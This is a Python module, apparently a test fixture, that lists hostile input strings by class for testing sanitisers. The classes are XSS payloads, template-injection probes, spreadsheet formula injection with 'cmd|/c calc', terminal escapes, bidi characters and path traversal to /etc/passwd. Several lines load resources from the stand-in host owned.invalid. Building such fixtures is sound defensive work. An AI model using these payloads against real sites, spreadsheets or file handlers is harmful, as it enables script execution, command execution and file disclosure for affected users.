"""Hostile texts by class: what would run, call or lie if anything took it for more than text.

Whatever runs calls ``alert`` and sets ``window.owned``; whatever calls out asks for a host that cannot exist.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

RUN = "window.owned=1,alert(1)"
HOST = "http://owned.invalid"
NO_BREAK = "W" * 2000

PAYLOADS: Mapping[str, Sequence[str]] = {
    "script": (
        f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt\n>{RUN}</ScRiPt\n>", f"<script src={HOST}/a.js></script>",
        f"</textarea></title></style><script>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<!--<script>--><script>{RUN}</script>",
        f"]]><script>{RUN}</script>", f"<noscript><p title=\"</noscript><script>{RUN}</script>\">"),
    "handler": (
        f"<img src=x onerror=\"{RUN}\">", f"<img/src=x/onerror={RUN}>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>x</details>", f"<video><source onerror={RUN}></video>", f"<marquee onstart={RUN}>x</marquee>",
        f"<a id=x tabindex=1 onfocusin={RUN}>x</a>"),
    "svg": (
        f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href=\"javascript:{RUN}\"><text>x</text></a></svg>",
        f"<svg><foreignObject><iframe src=\"javascript:{RUN}\"></iframe></foreignObject></svg>", f"<svg><animate onbegin={RUN} attributeName=x>",
        f"<svg><image href={HOST}/a.png></svg>", f"<math><mtext><mglyph><style><img src onerror={RUN}></style></mglyph></mtext></math>",
        f"</desc></title><script>{RUN}</script>"),
    "address": (
        f"<a href=\"javascript:{RUN}\">x</a>", f"javascript:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
        f"<iframe src=\"data:text/html,<script>{RUN}</script>\"></iframe>", f"[x](javascript:{RUN})", f"![x]({HOST}/a.png)", f"<{HOST}>"),
    "json": (
        "<!--<script>", "--></script>", "\"}];alert(1);//", "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\\"),alert(1)//", "\u2028\u2029;alert(1)"),
    "template": (
        "{{7*7}}", "{% for x in y %}{% endfor %}", "${alert(1)}", "{{config.__class__.__init__.__globals__}}",
        "#{7*7}", "<%= 7*7 %>", "%(a)s {0} {a!r}"),
    "mathematics": (
        "$x^2$ and $y_1$", "\\(\\alpha\\) of \\[\\beta\\]", f"$\\href{{javascript:{RUN}}}{{x}}$", f"\\(\\href{{javascript:{RUN}}}{{\\text{{x}}}}\\)",
        "$$\\require{html}\\style{color:red}{x}$$", "$\\unclosed{", "\\begin{equation}a\\end{equation}", "costs $5 million, not $7 million"),
    "entity": (
        "&lt;script&gt;alert(1)&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;", "&amp;lt;b&amp;gt;", "&colon;&Tab;&NewLine;", "&#x202e;abc"),
    "attribute": (
        f"\" onmouseover=\"{RUN}", f"' autofocus onfocus='{RUN}", f"` onmouseover={RUN}", f"\"><img src=x onerror={RUN}>",
        f"'><script>{RUN}</script>",
        f"x\" style=\"position:fixed;inset:0\" onclick=\"{RUN}"),
    "style": (
        "<style>*{display:none!important}</style>", f"<div style=\"background:url({HOST}/b)\">x</div>", f"</style><script>{RUN}</script>",
        f"<link rel=stylesheet href={HOST}/a.css>", f"red;}}*{{background:url({HOST}/c)}}", f"<style>@import '{HOST}/d.css';</style>"),
    "element": (
        f"<form action={HOST}><button autofocus>x</button></form>", f"<meta http-equiv=refresh content=\"0;url={HOST}\">", f"<base href={HOST}>",
        f"<object data={HOST}></object>", f"<embed src={HOST}>", f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
        f"<link rel=prefetch href={HOST}/e>", f"<link rel=dns-prefetch href={HOST}>", "<template><b>x</b></template><plaintext>"),
    "mutation": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">", f"<listing>&lt;img onerror={RUN} src=x&gt;</listing>",
        f"<table><td><svg><desc><td><img src=x onerror={RUN}>"),
    "direction": ("\u202eevil\u202c", "\u2067rtl\u2066", "\u202d\u202e\u202e", "a\u200bb\u200c\u200d\u2060c", "\u061c\u200f\u200e", "\ufeffx\u00ad"),
    "formula": (
        "=1+1", "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "'=1+1", "\uff1d1+1",
        f"=HYPERLINK(\"{HOST}\",\"x\")", "\";=1+1;\"", "%0A=1+1"),
    "terminal": ("\x1b[2J\x1b[31mred", "\x1b]0;owned\x07", "\x9b31mred", "a\rb\bc", "\x1b]8;;http://owned.invalid\x07x\x1b]8;;\x07"),
    "control": ("nul\x00inside", "\x01\x7f\x85", "\ufffe\uffff\ufdd0", "\U0010ffff\U0001f600"),
    "length": (NO_BREAK, "Z\u0301\u0302\u0303" * 100, "<b>" * 300),
    "path": ("../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "con", "a/../../b", "file:///etc/passwd", "x.html#y?z", "%2e%2e%2f"),
}
ALL: Sequence[str] = tuple(dict.fromkeys(p for group in PAYLOADS.values() for p in group))
#: Half a character: no file of tables holds it, so it is turned away where it would come in.
HALVES: Sequence[str] = ("\ud800", "x\udfff")
